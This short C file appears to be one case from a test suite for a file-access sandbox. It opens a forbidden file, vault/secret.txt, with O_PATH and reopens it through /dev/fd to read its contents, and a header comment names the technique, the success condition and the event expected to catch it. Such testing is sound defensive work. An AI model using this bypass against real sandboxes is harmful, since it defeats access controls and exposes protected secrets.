/* technique: opens the forbidden file with O_PATH, which reaches no content, then opens that descriptor again for
 * reading
 * source: open(2), O_PATH; nono, issue on O_PATH upgrades
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"

int main(void)
{
	char path[64];
	int fd = open(SECRET_FILE, O_PATH);

	if (fd < 0)
		return failed("O_PATH");
	snprintf(path, sizeof path, "/dev/fd/%d", fd);
	return show_path(path);
}
